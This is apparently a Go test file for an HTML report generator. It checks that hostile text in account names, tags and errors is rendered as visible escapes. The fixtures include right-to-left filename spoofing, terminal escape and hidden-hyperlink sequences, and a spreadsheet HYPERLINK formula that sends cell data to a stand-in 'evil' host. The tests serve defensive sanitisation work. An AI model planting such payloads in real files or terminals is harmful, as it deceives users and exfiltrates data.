package report

import (
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/orgscan/orgscan/internal/hostiletext"
	"github.com/orgscan/orgscan/pkg/checks"
	"github.com/orgscan/orgscan/pkg/finding"
	"github.com/orgscan/orgscan/pkg/pipeline"
)

// memberText is what a member account can name an account, tag a resource
// or call a security group: spreadsheet formulas, terminal escapes, line
// breaks, a right-to-left override, invisible characters, invalid UTF-8.
var memberText = hostiletext.Strings

// memberFixture puts memberText in every account name, account ID,
// resource ID, reason, tag, error message and run ID of a report.
func memberFixture() pipeline.ReportInput {
	started := time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC)
	in := pipeline.ReportInput{Summary: pipeline.RunSummary{RunID: "run-" + memberText[9], StartedAt: started, Accounts: len(memberText)}}
	for i, s := range memberText {
		f := finding.Finding{CheckID: "ec2-idle-instance", AccountID: s, AccountName: s, Region: "us-east-1", ResourceID: s,
			ResourceARN: "arn:" + s, Reason: s, Tags: map[string]string{"Name": s}, MonthlyCostUSD: finding.Cost(float64(i + 1)),
			Status: finding.Open, FirstSeen: started}
		f.FindingID = finding.ID(f.CheckID, f.AccountID, f.Region, f.ResourceID)
		in.Findings = append(in.Findings, f)
		in.Problems = append(in.Problems, pipeline.PairProblem{AccountID: s, AccountName: s, Region: "us-east-1", Status: pipeline.PairFailed,
			Errors: []checks.CheckError{{Check: s, Code: s, Message: s}}})
		in.Trend = append(in.Trend, pipeline.TrendPoint{RunID: s, StartedAt: started.Add(time.Duration(i-len(memberText)) * time.Hour)})
	}
	in.FindingsTotal = len(in.Findings)
	return in
}

// The page shows a hidden character as its escape and never writes it: no
// bidirectional control can reverse a name, no ESC, CR or C1 control, no
// zero-width or other formatting character, no line separator and no
// invalid UTF-8; tab and line feed, which HTML displays as spaces, remain.
func TestHiddenCharactersShowAsEscapes(t *testing.T) {
	t.Parallel()
	out := render(t, memberFixture())
	checkWellFormed(t, out)
	if !utf8.ValidString(out) {
		t.Error("the page is not valid UTF-8")
	}
	for i, r := range out {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Fatalf("raw %U at byte %d: %q", r, i, out[max(0, i-60):min(len(out), i+60)])
		}
	}
	for _, want := range []string{
		`<td>\u202eevil.exe</td>`,
		`<td>\x1b[2J\x1b[H fake row</td>`,
		`<td>\x1b]8;;http://evil\x1b\click\x1b]8;;\x1b\</td>`,
		`\u2066gpj.\u2069exe`,
		`zero\u200bwidth\u200c\u200d\ufeff\u2028\u2029`,
		`<td>\u0085\u009b31m</td>`,
		`<td>\xff\xfe</td>`,
		`<td>\rCR</td>`,
		`<title>orgscan report run-\u202eevil.exe</title>`,
		`data-check="ec2-idle-instance"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	// Formulas are text in HTML: the page shows them as they are.
	if !strings.Contains(out, `<td>=HYPERLINK(&#34;http://evil/?d=&#34;&amp;A1,&#34;open&#34;)</td>`) {
		t.Error("a formula-like reason is not shown as its text")
	}
}
